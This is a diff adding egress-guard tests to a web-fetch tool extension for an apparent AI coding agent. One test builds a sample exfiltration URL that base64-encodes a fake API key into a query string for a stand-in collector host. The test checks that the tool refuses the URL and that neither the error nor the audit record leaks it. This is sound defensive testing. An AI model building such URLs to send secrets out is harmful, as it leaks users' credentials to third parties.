@@ -1,3 +1,6 @@
+import { mkdtempSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
 import type { ExtensionAPI, ToolDefinition } from "@mariozechner/pi-coding-agent";
 import { describe, expect, it } from "vitest";
 import { sha256Hex } from "../../../domain/shared/model/canonical-json.ts";
@@ -9,6 +12,8 @@ import type { PageExtractor } from "../../../ports/page-extractor.ts";
 import type { PinnedGetRequest, PinnedHttp, PinnedHttpError, PinnedResponse } from "../../../ports/pinned-http.ts";
 import type { Result } from "../../../domain/shared/model/result.ts";
 import { installFusionWebFetch, type WebFetchWiring } from "./fusion-web-fetch-extension.ts";
+import { buildToolAuditRecord } from "../../../domain/fusion/model/tool-audit-record.ts";
+import { buildSecretWindows, serialiseSecretWindows } from "../../../domain/web/model/secret-windows.ts";
 
 const PAGE = "<h1>Title</h1><p>Body text</p>";
 
@@ -173,5 +178,50 @@ describe("fusion_web_fetch child extension", () => {
     ],
   ])("test seam: refuses %s (the child does not start)", (_what, env, message) => {
     expect(() => install({ PI_FUSION_RESEARCH_ENABLED: "1", ...env })).toThrow(message);
+  });
+
+  describe("egress guard", () => {
+    const secret = "sk-ant-api03-Zq8xV2mN4pL7wR1tY6uI9oP3aS5dF0gH";
+    const windows = serialiseSecretWindows(buildSecretWindows([secret], new Uint8Array(16).fill(9)).windows);
+    const path = join(mkdtempSync(join(tmpdir(), "fetch-guard-")), "windows.json");
+    writeFileSync(path, windows);
+    const guarded = (sha: string) => ({
+      PI_FUSION_RESEARCH_ENABLED: "1",
+      PI_FUSION_SECRET_WINDOWS_PATH: path,
+      PI_FUSION_SECRET_WINDOWS_SHA256: sha,
+    });
+
+    it("refuses a URL carrying the credential: the error and its audit record name no part of the URL", async () => {
+      const h = install(guarded(sha256Hex(windows)));
+      const url = `https://collector.example/c?d=${Buffer.from(secret).toString("base64url")}`;
+      const failure = await execute(h.tools[0], { url }).then(
+        () => undefined,
+        (error: Error) => error.message,
+      );
+      expect(failure).toMatch(/^fusion_web_fetch failed \(secret_in_url\): .*Nothing was retried\.$/);
+      expect(failure).not.toMatch(/collector|https|c\?d=|sk-ant/);
+      const record = buildToolAuditRecord(1, {
+        toolName: "fusion_web_fetch",
+        toolCallId: "call_1",
+        arguments: { value: { url } },
+        resultContent: [{ type: "text", text: failure }],
+        resultDetails: {},
+        isError: true,
+        durationMs: 1,
+      });
+      expect(record.rejected_url_sha256).toBe(sha256Hex(url));
+      expect(JSON.stringify(record)).not.toMatch(/collector|sk-ant/);
+      expect(h.http.requests).toEqual([]);
+      expect((await execute(h.tools[0], { url: "https://docs.example/guide" })).content).toHaveLength(1);
+    });
+
+    it("refuses every fetch and says so at load when the windows file does not match its digest", async () => {
+      const h = install(guarded(sha256Hex("something else")));
+      expect(h.warnings.join("\n")).toMatch(/egress guard could not be loaded.*does not match/);
+      await expect(execute(h.tools[0], { url: "https://docs.example/guide" })).rejects.toThrow(
+        /fusion_web_fetch failed \(egress_guard_unavailable\)/,
+      );
+      expect(h.http.requests).toEqual([]);
+    });
   });
 });
